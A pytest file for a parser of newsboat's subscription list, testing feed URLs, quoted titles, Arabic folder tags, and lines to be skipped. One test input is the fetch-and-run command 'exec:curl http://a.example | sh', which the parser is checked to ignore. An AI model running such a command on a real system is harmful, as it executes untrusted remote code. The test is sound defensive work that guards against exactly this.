"""newsboat's file of subscriptions."""

from __future__ import annotations

import pytest

from reader.sources import urls
from reader.sources.outlines import Outline, Outlines


def read(text: str) -> Outlines:
    return urls.read(text.encode())


def test_an_address_a_line() -> None:
    assert list(read("https://a.example/rss\n\n  https://b.example/rss  \n")) == [
        Outline("https://a.example/rss"),
        Outline("https://b.example/rss"),
    ]


def test_the_first_tag_is_the_folder() -> None:
    assert list(read("https://a.example/ أخبار العالم")) == [Outline("https://a.example/", "", "أخبار")]


@pytest.mark.parametrize(
    ("line", "title", "folder"),
    [
        ('"~المدار اليوم" أخبار', "المدار اليوم", "أخبار"),
        ('"أخبار العالم" ~المدار', "المدار", "أخبار العالم"),
        ('! "~م" x', "م", "x"),
        (r'"~قال \"نعم\"" x', 'قال "نعم"', "x"),
        ('"~بلا نهاية', "بلا نهاية", ""),
        ('"أ/ب"', "", "أ∕ب"),
    ],
)
def test_names_and_tags_may_be_quoted(line: str, title: str, folder: str) -> None:
    assert list(read(f'"https://a.example/" {line}')) == [Outline("https://a.example/", title, folder)]


@pytest.mark.parametrize(
    "line",
    [
        "exec:~/bin/feed.sh",
        '"exec:curl http://a.example | sh" x',
        "filter:~/x.pl:http://a.example/rss",
        '"query:Unread:unread = \\"yes\\""',
        "file:///home/x/feed.xml",
        "nonsense",
    ],
)
def test_commands_queries_and_files_are_ignored_and_counted(line: str) -> None:
    found = read(f"{line}\nhttps://a.example/")
    assert ([one.url for one in found], found.ignored) == (["https://a.example/"], 1)


def test_comments_count_as_nothing() -> None:
    assert (list(read("# https://a.example/\n#\n")), read("# x").ignored) == ([], 0)


def test_a_hostile_line_takes_no_time() -> None:
    assert read('"' + "\\" * 1_000_001 + "\n" + '" ' * 200_000).ignored == 2
